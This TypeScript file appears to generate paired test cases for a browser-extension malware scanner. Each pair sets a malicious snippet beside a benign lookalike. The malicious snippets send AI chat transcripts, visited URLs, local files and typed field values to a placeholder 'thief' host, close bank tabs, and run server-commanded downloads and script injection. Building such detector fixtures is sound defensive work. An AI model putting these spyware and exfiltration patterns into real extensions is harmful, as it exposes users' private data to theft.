import { finding, thief, type Fact } from '../case.ts';
import { pairsOf, type Pair, type Row } from '../pairs.ts';

const chats: Fact = finding('ai-chats-collected');
const denied: Fact = finding('site-denied-by-code');
const on = (...matches: readonly string[]): object => ({
  content_scripts: [{ matches, js: ['content.js'] }],
});
const turns = "[...document.querySelectorAll('article')].map((turn) => turn.innerText)";
const send = (host: string): string =>
  `fetch('https://${host}/a', { method: 'POST', body: JSON.stringify(${turns}) })`;

/** Conversations with assistants, read by whom and for whom. */
const conversations: Readonly<Record<string, Row>> = {
  'of which site': {
    content: { 'content.js': `setInterval(() => ${send(thief)}, 5000);` },
    manifest: on('https://«chatgpt.com¦tides.io»/*'),
    fact: chats,
  },
  'sent to whom': {
    content: { 'content.js': `setInterval(() => ${send(`«${thief}¦claude.ai»`)}, 5000);` },
    manifest: on('https://claude.ai/*'),
    fact: chats,
  },
  'asked for by a click': {
    content: {
      'content.js': `const button = document.createElement('button'); document.body.append(button); const share = () => ${send(thief)}; «setInterval(share, 5000)¦button.addEventListener('click', share)»;`,
    },
    manifest: on('https://gemini.google.com/*'),
    fact: chats,
  },
  'told by the host of the page': {
    content: {
      'content.js': `if (location.host === '«www.perplexity.ai¦www.tides.io»') new MutationObserver(() => ${send(thief)}).observe(document.body, { childList: true });`,
    },
    fact: chats,
  },
};

const listen = 'chrome.tabs.onUpdated.addListener';
/** Sites that the code keeps people from, and sites that they chose. */
const sites: Readonly<Record<string, Row>> = {
  'a tab of a named site': {
    worker: `const site = '«bank.tides.io¦https://bank.tides.io/done?code=»'; ${listen}((id, { url }) => { if (url?.includes(site)) chrome.tabs.remove(id); });`,
    fact: denied,
  },
  'a visit of a named site': {
    worker: `const site = 'https://www.tides.io/'; chrome.history.onVisited.addListener(({ url }) => { if (url.includes(site)) chrome.history.«deleteUrl({ url })¦getVisits({ url })»; });`,
    fact: denied,
  },
  'a site of the user': {
    worker: `const site = 'www.tides.io'; ${listen}(async (id, { url }) => { const { own } = «{ own: site }¦await chrome.storage.local.get('own')»; if (url?.includes(own)) chrome.tabs.remove(id); });`,
    fact: denied,
  },
};

const log = (body: string): string =>
  `${listen}(async (id, change, tab) => { const { clientId, theme } = await chrome.storage.local.get(); fetch('https://${thief}/a', { method: 'POST', body: JSON.stringify({ ${body} }) }); });`;
/** Visits under an id that is kept, and what is told without one of the two. */
const visits: Readonly<Record<string, Row>> = {
  'an id or a setting': {
    worker: log('u: «clientId¦theme», p: tab.url'),
    fact: finding('visits-logged-by-id'),
  },
  'an address or a state': {
    worker: log('u: clientId, p: «tab.url¦tab.status»'),
    fact: finding('visits-logged-by-id'),
  },
};

const worker = (code: string): Pick<Row, 'worker'> => ({ worker: code });
const far = `https://${thief}`;
const jobs = (job: string, body: string): string =>
  `async function next() { const job = await (await fetch('${far}/next')).json(); const answer = await fetch(${job}); ${body} } chrome.alarms.onAlarm.addListener(next);`;
const back = (text: string): string =>
  `await fetch('${far}/done', { method: 'POST', body: JSON.stringify({ id: job.id, ${text} }) });`;
const relayed: Fact = finding('scraping-proxy');

/** What a server has fetched for it, and what the extension fetches for itself. */
const relays: Readonly<Record<string, Row>> = {
  'an address of the server': {
    ...worker(jobs("«job.url¦'https://tides.io/now'»", back('text: await answer.text()'))),
    fact: relayed,
  },
  'what comes back': {
    ...worker(jobs('job.url', back('«text: await answer.text()¦ok: answer.ok»'))),
    fact: relayed,
  },
  'an address that is put where the server says': {
    ...worker(
      `async function put() { const { place } = await (await fetch('${far}/place')).json(); const answer = await fetch(place, { method: '«GET¦PUT»'«¦, body: 'tide'» }); await fetch('${far}/done', { method: 'POST', body: await answer.text() }); } put();`,
    ),
    fact: relayed,
  },
  'an answer over a socket': {
    ...worker(
      `const socket = new WebSocket('wss://${thief}/'); socket.onmessage = async ({ data }) => { const { url } = JSON.parse(data); const answer = await fetch(url); const text = await answer.text(); «socket.send(text)¦console.log(text)»; };`,
    ),
    fact: relayed,
  },
};

const stages = (send: string): string =>
  `const filter = { urls: ['<all_urls>'] }; ${send} chrome.webNavigation.onCommitted.addListener(({ url }) => tell(url)); chrome.webRequest.onBeforeRedirect.addListener(({ redirectUrl }) => tell(redirectUrl), filter); chrome.webRequest.onSendHeaders.addListener(({ url }) => tell(url), filter);`;
/** Navigations that are followed stage by stage. */
const clicks: Readonly<Record<string, Row>> = {
  'told or shown': {
    ...worker(
      stages(
        `const tell = (page) => { «fetch('${far}/a', { method: 'POST', body: JSON.stringify({ page }) })¦chrome.action.setTitle({ title: page })»; };`,
      ),
    ),
    fact: finding('clickstream-collected'),
  },
};

const choice: Fact = finding('remote-list-injected');
const eachTab = (list: string, act: string): string =>
  `let list = []; ${list} chrome.tabs.onUpdated.addListener((tabId, change, { url }) => { for (const { site } of list) if (url.includes(site)) ${act}; });`;
const fetched = `fetch('${far}/list').then((answer) => answer.json()).then((found) => { list = found; });`;
const own = "chrome.storage.sync.get('own', ({ own }) => { list = own; });";
const files = "chrome.scripting.executeScript({ target: { tabId }, files: ['late.js'] })";

/** Who says on which sites something is put into pages. */
const chosenSites: Readonly<Record<string, Row>> = {
  'a list of a server or of the user': {
    ...worker(eachTab(`«${fetched}¦${own}»`, files)),
    others: { 'late.js': 'void 5;' },
    fact: choice,
  },
  'a script or a style': {
    ...worker(
      eachTab(
        fetched,
        `«${files}¦chrome.scripting.insertCSS({ target: { tabId }, css: 'p { color: teal }' })»`,
      ),
    ),
    others: { 'late.js': 'void 5;' },
    fact: choice,
  },
  'the host or the language of the page': {
    content: {
      'content.js': `fetch('${far}/rules').then((answer) => answer.json()).then((rules) => { const own = rules[«location.hostname¦navigator.language»]; if (own) document.body.insertAdjacentHTML('beforeend', '<p>Tide</p>'); });`,
    },
    fact: choice,
  },
};

/** Links that a server has put into pages. */
const offers: Readonly<Record<string, Row>> = {
  'an address of the server': {
    content: {
      'content.js': `fetch('${far}/offers').then((answer) => answer.json()).then(({ url, text }) => { const link = document.createElement('a'); link.href = «url¦'https://tides.io/'»; link.textContent = text; document.body.append(link); });`,
    },
    fact: finding('ads-inserted'),
  },
  'asked for': {
    content: {
      'content.js': `const button = document.createElement('button'); document.body.append(button); async function show() { const { url } = await (await fetch('${far}/offers')).json(); const link = document.createElement('a'); link.href = url; document.body.append(link); } «show()¦button.addEventListener('click', show)»;`,
    },
    fact: finding('ads-inserted'),
  },
};

/** Files of the computer, pages of one site, fields of all. */
const quiet: Readonly<Record<string, Row>> = {
  'a file of the computer': {
    ...worker(
      `fetch(«'file:///home/tide/notes.txt'¦chrome.runtime.getURL('notes.txt')»).then((answer) => answer.text()).then((text) => fetch('${far}/a', { method: 'POST', body: text }));`,
    ),
    others: { 'notes.txt': 'Tide' },
    fact: finding('local-files-sent'),
  },
  'a page of one site': {
    content: {
      'content.js': `navigator.sendBeacon('${far}/a', «location.href¦navigator.language»);`,
    },
    manifest: on('https://tides.io/*'),
    fact: finding('site-visits-sent'),
  },
  'every field': {
    content: {
      'content.js': `document.addEventListener('change', ({ target }) => { chrome.storage.local.set({ last: «target.value¦target.id» }); });`,
    },
    fact: finding('typed-fields-kept'),
  },
  'every field or one': {
    content: {
      'content.js': `for (const field of document.querySelectorAll('«input¦#tide»')) field.addEventListener('blur', () => { chrome.storage.local.set({ last: field.value }); });`,
    },
    fact: finding('typed-fields-kept'),
  },
};

const commands = (api: string): string =>
  `chrome.alarms.onAlarm.addListener(async () => { const { file, url } = await (await fetch('${far}/next')).json(); ${api} });`;
/** Who says what is done. */
const commanded: Readonly<Record<string, Row>> = {
  'a server or a program of this machine': {
    ...worker(
      `const socket = new WebSocket('«wss://${thief}¦ws://127.0.0.1:8412»/'); socket.onmessage = ({ data }) => { chrome.downloads.download({ url: JSON.parse(data).url }); };`,
    ),
    fact: finding('privilege-commanded-by-server'),
  },
  'a server or a click': {
    ...worker(
      `async function load() { const { url } = await (await fetch('${far}/next')).json(); chrome.downloads.download({ url }); } «chrome.alarms.onAlarm¦chrome.action.onClicked».addListener(load);`,
    ),
    fact: finding('privilege-commanded-by-server'),
  },
  'a name of the server or of the code': {
    ...worker(commands("const name = «file¦'create'»; chrome.tabs[name]({ url });")),
    fact: finding('remote-config-dispatch'),
  },
};

/** What campaigns do that send little: each with what an honest extension does alike. */
export const campaignPairs: readonly Pair[] = [
  ...pairsOf('chats with assistants', conversations),
  ...pairsOf('sites that are denied', sites),
  ...pairsOf('visits and who made them', visits),
  ...pairsOf('what a server has fetched', relays),
  ...pairsOf('navigations that are followed', clicks),
  ...pairsOf('sites that a server picks', chosenSites),
  ...pairsOf('links of a server', offers),
  ...pairsOf('what leaves or stays unseen', quiet),
  ...pairsOf('who commands', commanded),
];
